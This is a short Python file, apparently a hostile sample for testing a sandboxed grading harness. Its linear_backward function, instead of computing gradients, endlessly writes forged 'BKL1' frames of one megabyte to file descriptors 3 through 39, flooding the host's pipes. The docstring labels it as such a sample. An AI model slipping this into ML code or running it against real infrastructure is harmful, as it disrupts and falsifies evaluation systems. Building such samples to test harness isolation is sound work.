"""
Floods the line for as long as it is let.

Earns: 8
Held by: process, isolated
Slow: yes
"""

import os
import struct


def write(data):
    for descriptor in range(3, 40):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


def frame(kind, number, payload):
    return struct.pack("<4sBII", b"BKL1", kind, number, len(payload)) + payload


def linear_forward(x, w, b):
    return x @ w + b, (x, w)


def linear_backward(dout, cache):
    while True:
        write(frame(16, 3, bytes(1 << 20)))
